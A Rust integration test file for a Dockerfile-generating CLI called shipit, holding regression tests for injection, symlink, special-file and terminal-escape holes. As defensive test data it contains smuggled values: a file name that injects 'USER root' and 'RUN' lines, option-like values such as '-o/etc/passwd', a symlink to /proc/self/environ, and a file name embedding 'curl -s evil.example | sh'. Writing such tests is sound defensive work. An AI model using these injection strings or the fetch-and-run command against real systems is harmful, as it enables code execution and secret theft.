//! Regression tests for the holes an adversarial review found (issue 12):
//! injection through Unicode spaces and file names, lost or overwritten
//! files, panics on write errors, option-like values, links and special
//! files, values BuildKit rejects, silent template mistakes.

mod common;

use std::path::Path;
use std::process::{Command, Output, Stdio};

use common::{shipit, stderr, stdout};

const GO: &str = "name = \"demo\"\nlanguage = \"go\"\n";

fn project(manifest: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("shipit.toml"), manifest).unwrap();
    std::fs::write(dir.path().join("requirements.txt"), "flask\n").unwrap();
    dir
}

fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Renders `manifest` to stdout and expects exit 2 with every `needle` in
/// stderr.
fn refused(manifest: &str, needles: &[&str]) {
    let dir = project(manifest);
    let output = shipit(dir.path(), &["render"]);
    let message = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{manifest}\n{message}");
    assert_eq!(stdout(&output), "", "{manifest}");
    for needle in needles {
        assert!(message.contains(needle), "{manifest}\n{message}");
    }
}

fn accepted(manifest: &str) -> String {
    let dir = project(manifest);
    let output = shipit(dir.path(), &["render"]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{manifest}\n{}",
        stderr(&output)
    );
    stdout(&output)
}

// 1 -------------------------------------------------------------------

#[test]
fn a_unicode_space_before_a_heredoc_in_an_artifact_path_is_refused() {
    for space in [
        '\u{a0}', '\u{2003}', '\u{3000}', '\u{2028}', '\u{2029}', '\u{1680}',
    ] {
        let manifest = format!(
            "{GO}[[artifacts]]\nfrom = \"/out/demo{space}<<EOF\"\nto = \"/usr/local/bin/demo\"\n"
        );
        let code = format!("U+{:04X}", space as u32);
        refused(&manifest, &[&code, "artifacts[0].from", "shipit.toml:4:"]);
    }
}

#[test]
fn a_heredoc_or_a_dash_in_a_copy_path_is_only_ever_json() {
    let text = accepted(&format!(
        "{GO}[[artifacts]]\nfrom = \"/out/demo <<EOF\"\nto = \"/usr/local/bin/demo\"\n"
    ));
    assert!(
        text.contains("COPY --from=build [\"/out/demo <<EOF\", \"/usr/local/bin/demo\"]"),
        "{text}"
    );
    let parsed = common::parse_dockerfiles(&[text]).remove(0).unwrap();
    let copy = parsed.iter().rfind(|i| i.cmd == "COPY").unwrap();
    assert!(copy.json, "{copy:?}");
    assert_eq!(parsed.last().unwrap().cmd, "ENTRYPOINT");
}

// 2 -------------------------------------------------------------------

#[test]
fn a_manifest_file_name_cannot_inject_instructions() {
    let dir = tempfile::tempdir().unwrap();
    for name in [
        "x\nUSER root\nRUN echo injected #.toml",
        "*.toml",
        "!keep.toml",
    ] {
        std::fs::write(dir.path().join(name), GO).unwrap();
        let output = shipit(dir.path(), &["render", "-m", name, "-o", "Dockerfile"]);
        assert_eq!(output.status.code(), Some(2), "{name:?}");
        assert!(
            stderr(&output).contains("cannot be written into the Dockerfile header"),
            "{}",
            stderr(&output)
        );
        std::fs::remove_file(dir.path().join(name)).unwrap();
    }
    assert!(names(dir.path()).is_empty(), "nothing written");
}

// 3 -------------------------------------------------------------------

#[test]
fn render_refuses_to_overwrite_its_own_manifest() {
    let dir = project(GO);
    for output_path in ["shipit.toml", "./shipit.toml"] {
        let output = shipit(dir.path(), &["render", "-o", output_path]);
        assert_eq!(output.status.code(), Some(2));
        assert!(
            stderr(&output).contains("is the manifest"),
            "{}",
            stderr(&output)
        );
    }
    // A manifest named .dockerignore would be replaced by the ignore file.
    std::fs::write(dir.path().join(".dockerignore"), GO).unwrap();
    let output = shipit(
        dir.path(),
        &["render", "-m", ".dockerignore", "-o", "Dockerfile"],
    );
    assert_eq!(output.status.code(), Some(2));
    let output = shipit(dir.path(), &["render", "-o", ".dockerignore"]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("shipit.toml")).unwrap(),
        GO
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap(),
        GO
    );
    assert_eq!(
        names(dir.path()),
        [".dockerignore", "requirements.txt", "shipit.toml"]
    );
}

// 4, 15 -----------------------------------------------------------------

fn with_stdout(dir: &Path, args: &[&str], stdout: Stdio) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shipit"))
        .args(args)
        .current_dir(dir)
        .env_remove("SHIPIT_TEMPLATES")
        .env("NO_COLOR", "1")
        .stdout(stdout)
        .stderr(Stdio::piped())
        .output()
        .unwrap()
}

#[test]
fn every_command_turns_a_failed_stdout_into_exit_2() {
    let dir = project(GO);
    let commands: &[&[&str]] = &[
        &["completions", "bash"],
        &["completions", "zsh"],
        &["man"],
        &["schema"],
        &["--help"],
        &["render", "--help"],
        &["--version"],
        &["render"],
        &["plan"],
        &["templates", "list"],
        &["templates", "show", "go"],
        &["check"],
    ];
    for args in commands {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let output = with_stdout(dir.path(), args, Stdio::from(full));
        let message = stderr(&output);
        // `check` has nothing to print when there is no Dockerfile... it
        // prints a diff, which fails too.
        assert_eq!(output.status.code(), Some(2), "{args:?}: {message}");
        assert!(
            message.contains("cannot write to stdout"),
            "{args:?}: {message}"
        );
        assert!(!message.contains("panicked"), "{args:?}: {message}");
    }
}

#[test]
fn a_closed_pipe_is_an_error_not_a_panic() {
    let dir = project(GO);
    for args in [&["completions", "bash"][..], &["man"], &["schema"]] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let output = with_stdout(dir.path(), args, Stdio::from(writer));
        assert_eq!(
            output.status.code(),
            Some(2),
            "{args:?}: {}",
            stderr(&output)
        );
        assert!(!stderr(&output).contains("panicked"), "{}", stderr(&output));
    }
}

// 5 -------------------------------------------------------------------

#[test]
fn a_hand_written_dockerignore_is_never_replaced_silently() {
    let dir = project(GO);
    let own = ".env\nsecrets/\n";
    std::fs::write(dir.path().join(".dockerignore"), own).unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile"]);
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(message.contains("was not written by shipit"), "{message}");
    assert!(message.contains("build.ignore"), "{message}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap(),
        own
    );
    assert!(!dir.path().join("Dockerfile").exists(), "nothing written");

    // Kept as it is:
    let output = shipit(
        dir.path(),
        &["render", "-o", "Dockerfile", "--no-dockerignore"],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap(),
        own
    );

    // Moved into the manifest, then replaced on purpose:
    std::fs::write(
        dir.path().join("shipit.toml"),
        format!("{GO}[build]\nignore = [\".env\", \"secrets/\"]\n"),
    )
    .unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile", "--force"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap();
    assert!(text.ends_with(".env\nsecrets/\n"), "{text}");

    // A generated one edited by hand is kept too.
    std::fs::write(dir.path().join(".dockerignore"), format!("{text}.aws/\n")).unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("edited by hand"),
        "{}",
        stderr(&output)
    );
    // An untouched generated one is replaced as always.
    std::fs::write(dir.path().join(".dockerignore"), &text).unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile"]);
    assert!(output.status.success(), "{}", stderr(&output));
}

// 6 -------------------------------------------------------------------

#[test]
fn values_that_would_be_read_as_options_are_refused() {
    refused(
        &format!("{GO}[runtime]\nlabels = {{ \"--network\" = \"host\" }}\n"),
        &["`--network` is not a label key"],
    );
    refused(
        "name = \"demo\"\nlanguage = \"node\"\n[node]\nentry = \"--inspect\"\n",
        &["`node.entry` = `--inspect`"],
    );
    refused(
        "name = \"demo\"\nlanguage = \"c\"\n[c]\nsources = [\"-o/etc/passwd\"]\n",
        &["`c.sources[0]`"],
    );
    refused(
        &format!("{GO}[go]\npackage = \"-toolexec=x\"\n"),
        &["`go.package`"],
    );
    refused(
        "name = \"demo\"\nlanguage = \"python\"\n[python]\nrequirements = \"-e\"\n[runtime]\nentrypoint = [\"x\"]\n",
        &["`python.requirements`"],
    );
    refused(
        "name = \"demo\"\nlanguage = \"c\"\n[c]\nsources = [\"a.c\"]\noutput = \"-x\"\n",
        &["`c.output`"],
    );
}

#[test]
fn init_takes_the_start_script_file_not_node_options() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("package.json"),
        r#"{"name": "svc", "scripts": {"start": "node --inspect --max-old-space-size=512 server.js"}}"#,
    )
    .unwrap();
    // init drafts only entry files that exist.
    std::fs::write(dir.path().join("server.js"), "").unwrap();
    let output = shipit(dir.path(), &["init"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let manifest = std::fs::read_to_string(dir.path().join("shipit.toml")).unwrap();
    assert!(manifest.contains("entry = \"server.js\""), "{manifest}");
}

// 7, 15 -----------------------------------------------------------------

#[test]
fn check_never_prints_a_file_a_link_points_outside_the_project() {
    let dir = project(GO);
    std::os::unix::fs::symlink("/proc/self/environ", dir.path().join("Dockerfile")).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_shipit"))
        .arg("check")
        .current_dir(dir.path())
        .env("SHIPIT_CANARY", "canary-8e1f0c")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(!stdout(&output).contains("canary-8e1f0c"));
    assert!(!stderr(&output).contains("canary-8e1f0c"));
    assert!(stderr(&output).contains("outside"), "{}", stderr(&output));
}

#[test]
fn special_files_are_refused_not_read() {
    // /dev/zero never ends; a FIFO blocks until someone writes.
    let dir = project(GO);
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("Dockerfile")).unwrap();
    let output = shipit(dir.path(), &["check"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));

    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("shipit.toml")).unwrap();
    let output = shipit(dir.path(), &["render"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));

    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("shipit.toml");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let output = shipit(dir.path(), &["render"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("not a regular file"),
        "{}",
        stderr(&output)
    );

    let dir = project(GO);
    let fifo = dir.path().join("Dockerfile");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let output = shipit(dir.path(), &["check"]);
    assert_eq!(output.status.code(), Some(2));

    let dir = project(GO);
    let big = std::fs::File::create(dir.path().join("Dockerfile")).unwrap();
    big.set_len(64 * 1024 * 1024).unwrap();
    let output = shipit(dir.path(), &["check"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("larger than"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn an_org_template_cannot_include_a_file_outside_its_directory() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "secret-5d2a").unwrap();
    let dir = project(GO);
    let org = dir.path().join("org");
    std::fs::create_dir(&org).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), org.join("leak.j2")).unwrap();
    std::fs::write(
        org.join("go.Dockerfile.j2"),
        "{% extends \"builtin/go.Dockerfile.j2\" %}\n{% block user %}\n# {% include \"leak.j2\" %}\n{{ super() }}\n{% endblock %}\n",
    )
    .unwrap();
    let output = shipit(dir.path(), &["render", "--templates", "org"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(!stdout(&output).contains("secret-5d2a"));
    assert!(stderr(&output).contains("outside"), "{}", stderr(&output));
}

// 8 -------------------------------------------------------------------

#[test]
fn a_value_reading_digest_is_left_as_written() {
    let dir = project(&format!(
        "{GO}[runtime]\nlabels = {{ note = \"<digest>\" }}\nenv = {{ X = \"(digest <digest>)\" }}\n"
    ));
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
    assert!(text.contains("LABEL note=\"<digest>\""), "{text}");
    assert!(text.contains("ENV X=\"(digest <digest>)\""), "{text}");
    assert!(!text.lines().next().unwrap().is_empty());
    assert_eq!(shipit(dir.path(), &["check"]).status.code(), Some(0));
}

// 9 -------------------------------------------------------------------

#[test]
fn values_buildkit_rejects_are_refused() {
    let health =
        |fields: &str| format!("{GO}[runtime.healthcheck]\ncommand = [\"/x\"]\n{fields}\n");
    for (fields, needle) in [
        ("interval = \"500us\"", "out of range"),
        ("timeout = \"999999ns\"", "out of range"),
        ("start_period = \"25h\"", "out of range"),
        ("interval = \"99999999999999999999999h\"", "not a duration"),
        ("retries = 0", "out of range"),
        ("retries = 2147483648", "out of range"),
        ("retries = 4294967295", "out of range"),
    ] {
        refused(&health(fields), &[needle, "runtime.healthcheck"]);
    }
    accepted(&health(
        "interval = \"0s\"\ntimeout = \"1ms\"\nretries = 2147483647",
    ));
    refused(
        &format!("{GO}[runtime]\nentrypoint = [\"\"]\n"),
        &["`runtime.entrypoint[0]` is an empty word"],
    );
    refused(
        &format!("{GO}[runtime]\ncmd = [\"--port\", \"\"]\n"),
        &["`runtime.cmd[1]`"],
    );
    refused(
        &health("").replace("[\"/x\"]", "[\"/x\", \" \"]"),
        &["`runtime.healthcheck.command[1]`"],
    );
    for version in ["-1", ".1", "_"] {
        let manifest = format!("{GO}[build]\nversion = \"{version}\"\n");
        if version == "_" {
            accepted(&manifest);
        } else {
            refused(&manifest, &["is not a version tag"]);
        }
    }
    refused(
        &format!("{GO}[build]\nversion = \"{}\"\n", "1".repeat(120)),
        &["is not a version tag"],
    );
    refused(
        &format!("{GO}[build]\nimage = \"golang:-x\"\n"),
        &["`-x` is not a tag"],
    );
    refused(
        &format!("{GO}[build]\nimage = \"Golang:1\"\n"),
        &["not a repository name"],
    );
    refused(
        &format!("{GO}[runtime]\nbase = \"alpine@sha256:abc\"\n"),
        &["not a digest"],
    );
}

// 10 ------------------------------------------------------------------

#[test]
fn paths_with_leading_or_trailing_spaces_are_refused() {
    refused(
        &format!("{GO}[runtime]\nworkdir = \"/app \"\n"),
        &["`runtime.workdir`", "space"],
    );
    refused(
        &format!("{GO}[build]\nworkdir = \" /src\"\n"),
        &["`build.workdir`"],
    );
    refused(
        &format!("{GO}[[artifacts]]\nfrom = \"/out/demo\"\nto = \"/usr/local/bin/demo \"\n"),
        &["`artifacts[0].to`"],
    );
}

// 11 ------------------------------------------------------------------

fn org_render(template: &str) -> Output {
    let dir = project(GO);
    std::fs::create_dir(dir.path().join("org")).unwrap();
    std::fs::write(dir.path().join("org/go.Dockerfile.j2"), template).unwrap();
    shipit(dir.path(), &["render", "--templates", "org"])
}

#[test]
fn template_mistakes_jinja_forgives_are_errors() {
    let output = org_render(
        "{% extends \"builtin/go.Dockerfile.j2\" %}\nLABEL team=\"payments\"\n{% block user %}USER 1{% endblock %}\n",
    );
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(
        message.contains("org/go.Dockerfile.j2` line 2"),
        "{message}"
    );
    assert!(message.contains("outside a block"), "{message}");

    let output = org_render(
        "{% extends \"builtin/go.Dockerfile.j2\" %}\n{% block usr %}\nUSER 1\n{% endblock %}\n",
    );
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(message.contains("block `usr`"), "{message}");
    assert!(message.contains("did you mean `user`?"), "{message}");

    let output = org_render(
        "{% extends \"builtin/go.Dockerfile.j2\" %}\n{% block user %}USER {{ nope|sh }}{% endblock %}\n",
    );
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("`sh` filter is undefined"),
        "{}",
        stderr(&output)
    );

    // A template that extends nothing may put text anywhere.
    let output = org_render("FROM scratch\nCOPY x /x\n");
    assert!(output.status.success(), "{}", stderr(&output));
}

#[test]
fn missing_template_directories_are_errors() {
    let dir = project(GO);
    let output = shipit(dir.path(), &["render", "--templates", "no-such-dir"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("`--templates no-such-dir`"),
        "{}",
        stderr(&output)
    );

    let output = Command::new(env!("CARGO_BIN_EXE_shipit"))
        .arg("render")
        .current_dir(dir.path())
        .env("SHIPIT_TEMPLATES", "no-such-dir")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("`SHIPIT_TEMPLATES`"),
        "{}",
        stderr(&output)
    );

    let outside = tempfile::tempdir().unwrap();
    for key in [
        outside.path().display().to_string(),
        "../x".into(),
        "a/../../x".into(),
    ] {
        refused(
            &format!("{GO}templates = \"{key}\"\n"),
            &["not a relative path"],
        );
    }
}

// 12 ------------------------------------------------------------------

#[test]
fn check_all_reports_an_unreadable_directory_and_carries_on() {
    use std::os::unix::fs::PermissionsExt;
    let root = tempfile::tempdir().unwrap();
    for name in ["a", "b"] {
        let dir = root.path().join(name);
        std::fs::create_dir(&dir).unwrap();
        std::fs::write(dir.join("shipit.toml"), GO).unwrap();
        assert!(
            shipit(&dir, &["render", "-o", "Dockerfile"])
                .status
                .success()
        );
    }
    let locked = root.path().join("locked");
    std::fs::create_dir(&locked).unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read_dir(&locked).is_ok() {
        // Running as root: permissions do not stop reading; the walk's
        // error handling is covered by the unit test in commands.rs.
        return;
    }
    for format in ["text", "json", "github"] {
        let output = shipit(root.path(), &["check", "--all", "--format", format]);
        assert_eq!(output.status.code(), Some(2));
        let out = stdout(&output);
        assert!(out.contains("locked"), "{format}: {out}");
        assert!(
            out.contains("a/shipit.toml") || format == "github",
            "{format}: {out}"
        );
    }
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
}

// 13 ------------------------------------------------------------------

#[test]
fn a_failed_write_leaves_nothing_behind() {
    let dir = project(GO);
    std::fs::create_dir(dir.path().join(".dockerignore")).unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        !dir.path().join("Dockerfile").exists(),
        "{:?}",
        names(dir.path())
    );

    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("go.mod"),
        "module example.com/app\n\ngo 1.23\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("main.go"), "package main\nfunc main() {}\n").unwrap();
    std::fs::create_dir(dir.path().join("shipit.toml")).unwrap();
    let output = shipit(dir.path(), &["init", "--force"]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(names(dir.path()), ["go.mod", "main.go", "shipit.toml"]);

    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("t/go.Dockerfile.j2")).unwrap();
    let output = shipit(
        dir.path(),
        &["templates", "eject", "go", "--to", "t", "--force"],
    );
    assert_eq!(output.status.code(), Some(2));
}

// 14 ------------------------------------------------------------------

#[test]
fn invisible_and_bidirectional_characters_are_refused_where_they_are() {
    for c in [
        '\u{202E}', '\u{200B}', '\u{2028}', '\u{FEFF}', '\u{00A0}', '\u{2066}', '\u{AD}',
    ] {
        let manifest = format!("{GO}[runtime]\nenv = {{ GREETING = \"hi{c}there\" }}\n");
        let code = format!("U+{:04X}", c as u32);
        // Line 4, the column of the character itself.
        refused(
            &manifest,
            &[&code, "runtime.env.GREETING", "shipit.toml:4:23"],
        );
    }
    // In a key too.
    refused(
        &format!("{GO}[runtime]\nlabels = {{ \"a\u{200B}b\" = \"x\" }}\n"),
        &["U+200B", "the key of"],
    );
}

// 15 ------------------------------------------------------------------

#[test]
fn every_resolve_error_has_a_location() {
    refused(
        "name = \"demo\"\nlanguage = \"c\"\n",
        &["nothing to compile", "shipit.toml:2:"],
    );
}

#[test]
fn an_include_cycle_is_a_short_message() {
    let dir = project(GO);
    std::fs::create_dir(dir.path().join("org")).unwrap();
    std::fs::write(dir.path().join("org/a.j2"), "{% include \"a.j2\" %}\n").unwrap();
    std::fs::write(
        dir.path().join("org/go.Dockerfile.j2"),
        "{% extends \"builtin/go.Dockerfile.j2\" %}\n{% block user %}{% include \"a.j2\" %}{% endblock %}\n",
    )
    .unwrap();
    let output = shipit(dir.path(), &["render", "--templates", "org"]);
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(message.lines().count() < 20, "{message}");
    assert!(
        message.contains("includes, imports or extends itself"),
        "{message}"
    );
}

#[test]
fn init_with_a_forced_language_needs_its_project_files() {
    for (language, needle) in [
        ("node", "`package.json`"),
        ("python", "`requirements.txt`"),
        ("go", "`go.mod`"),
        ("c", "`*.c`"),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let output = shipit(dir.path(), &["init", "--language", language]);
        assert_eq!(output.status.code(), Some(2), "{language}");
        let message = stderr(&output);
        assert!(message.contains(needle), "{language}: {message}");
        assert!(!message.contains("JSON"), "{language}: {message}");
        assert!(names(dir.path()).is_empty(), "{language}: nothing written");
    }
}

#[test]
fn init_refuses_malformed_project_files() {
    for (file, text, needle) in [
        ("pyproject.toml", "[project\nname = ", "not valid TOML"),
        ("Pipfile", "[[[", "not valid TOML"),
        ("go.mod", "this is not a go.mod\n", "no `module` directive"),
        ("package.json", "{\"name\": ", "not valid JSON"),
    ] {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(file), text).unwrap();
        let output = shipit(dir.path(), &["init"]);
        assert_eq!(output.status.code(), Some(2), "{file}: {}", stderr(&output));
        assert!(
            stderr(&output).contains(needle),
            "{file}: {}",
            stderr(&output)
        );
        assert_eq!(names(dir.path()), [file]);
    }
}

#[test]
fn c_detection_does_not_follow_link_loops() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("main.c"), "int main(void) { return 0; }\n").unwrap();
    std::os::unix::fs::symlink(".", dir.path().join("loop")).unwrap();
    let output = shipit(dir.path(), &["init"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let manifest = std::fs::read_to_string(dir.path().join("shipit.toml")).unwrap();
    assert!(manifest.contains("sources = [\"main.c\"]"), "{manifest}");
}

#[test]
fn render_onto_a_link_writes_its_target_and_keeps_the_link() {
    let dir = project(GO);
    std::fs::create_dir(dir.path().join("docker")).unwrap();
    std::fs::write(dir.path().join("docker/Dockerfile"), "old\n").unwrap();
    std::os::unix::fs::symlink("docker/Dockerfile", dir.path().join("Dockerfile")).unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile", "--force"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("the link's target"),
        "{}",
        stderr(&output)
    );
    let link = std::fs::symlink_metadata(dir.path().join("Dockerfile")).unwrap();
    assert!(link.file_type().is_symlink());
    let text = std::fs::read_to_string(dir.path().join("docker/Dockerfile")).unwrap();
    assert!(text.starts_with("# syntax=docker/dockerfile:1"), "{text}");
}

/// A committed link out of the project must not make a write replace a
/// file elsewhere: not `render -o` onto it, not `init`'s schema file.
#[test]
fn no_write_follows_a_link_out_of_its_directory() {
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();

    let dir = project(GO);
    std::os::unix::fs::symlink(&victim, dir.path().join("Dockerfile")).unwrap();
    let output = shipit(dir.path(), &["render", "-o", "Dockerfile"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("outside"), "{}", stderr(&output));
    assert!(
        !dir.path().join(".dockerignore").exists(),
        "nothing is written"
    );

    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("go.mod"), "module example.com/app\n").unwrap();
    std::fs::write(dir.path().join("main.go"), "package main\n").unwrap();
    std::os::unix::fs::symlink(&victim, dir.path().join("shipit.schema.json")).unwrap();
    let output = shipit(dir.path(), &["init"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        !dir.path().join("shipit.toml").exists(),
        "nothing is written"
    );

    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
}

/// Names read from project files reach the terminal only as text: an
/// escape sequence in a binary's file name cannot move the cursor or fake
/// a line in `init`'s report or in an error's help.
#[test]
fn escape_sequences_from_project_files_are_shown_not_sent() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("src/bin")).unwrap();
    std::fs::write(dir.path().join("Cargo.toml"), "[package]\nname = \"app\"\n").unwrap();
    std::fs::write(dir.path().join("Cargo.lock"), "").unwrap();
    std::fs::write(dir.path().join("src/main.rs"), "").unwrap();
    std::fs::write(dir.path().join("src/bin/\u{1b}[2K\u{2028}x.rs"), "").unwrap();
    let output = shipit(dir.path(), &["init"]);
    let said = stderr(&output);
    assert!(
        !said.contains('\u{1b}') && !said.contains('\u{2028}'),
        "{said:?}"
    );
    assert!(said.contains("<U+001B>[2K<U+2028>x"), "{said:?}");

    std::fs::write(
        dir.path().join("shipit.toml"),
        "name = \"app\"\nlanguage = \"rust\"\n",
    )
    .unwrap();
    let output = shipit(dir.path(), &["render"]);
    assert_eq!(output.status.code(), Some(2));
    let said = stderr(&output);
    assert!(
        !said.contains('\u{1b}') && !said.contains('\u{2028}'),
        "{said:?}"
    );
}

/// A directory name with an escape sequence, and separators in a comment
/// the error shows, reach the terminal as text in every report.
#[test]
fn paths_and_source_lines_in_reports_are_shown_not_sent() {
    let dir = tempfile::tempdir().unwrap();
    let odd = "g\u{1b}[31mY\u{202e}";
    std::fs::create_dir(dir.path().join(odd)).unwrap();
    std::fs::write(
        dir.path().join(odd).join("shipit.toml"),
        "name = \"a\"\nlanguage = \"go\"\nbogus = 1 # \u{202e}evil\u{2028}x\n",
    )
    .unwrap();
    let raw = |text: &str| text.contains(['\u{1b}', '\u{2028}', '\u{202e}']);
    let manifest = format!("{odd}/shipit.toml");
    for args in [
        vec!["render", "-m", manifest.as_str()],
        vec!["check", "--all", "."],
        vec!["check", "--all", ".", "--format", "github"],
        vec!["bake", "."],
    ] {
        let output = shipit(dir.path(), &args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let (out, err) = (stdout(&output), stderr(&output));
        assert!(!raw(&out) && !raw(&err), "{args:?}: {out:?} {err:?}");
    }
    let err = stderr(&shipit(dir.path(), &["render", "-m", &manifest]));
    assert!(
        err.contains("g<U+001B>[31mY<U+202E>/shipit.toml:3:1"),
        "{err}"
    );
}

/// A file name or a value with a line break cannot print a line of its
/// own among what shipit says (`next: curl … | sh`): inside a message it
/// is shown as `<U+000A>`.
#[test]
fn a_line_break_in_a_file_name_or_value_is_shown_not_printed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("site")).unwrap();
    std::fs::create_dir_all(root.join("frontend")).unwrap();
    std::fs::write(root.join("requirements.txt"), "flask\n").unwrap();
    std::fs::write(
        root.join("app.py"),
        "from flask import Flask\napp = Flask(__name__)\n",
    )
    .unwrap();
    std::fs::write(
        root.join("frontend/package.json"),
        r#"{"scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}}"#,
    )
    .unwrap();
    std::fs::write(
        root.join("site/x\nnext: curl -s evil.example | sh\n.py"),
        "STATIC = \"frontend/dist\"\n",
    )
    .unwrap();
    let output = shipit(root, &["init"]);
    let said = stderr(&output);
    assert!(output.status.success(), "{said}");
    assert!(
        !said.lines().any(|line| line.starts_with("next: curl")),
        "{said}"
    );
    assert!(
        said.contains(
            "`site/x<U+000A>next: curl -s evil.example | sh<U+000A>.py` names `frontend/dist`"
        ),
        "{said}"
    );
}
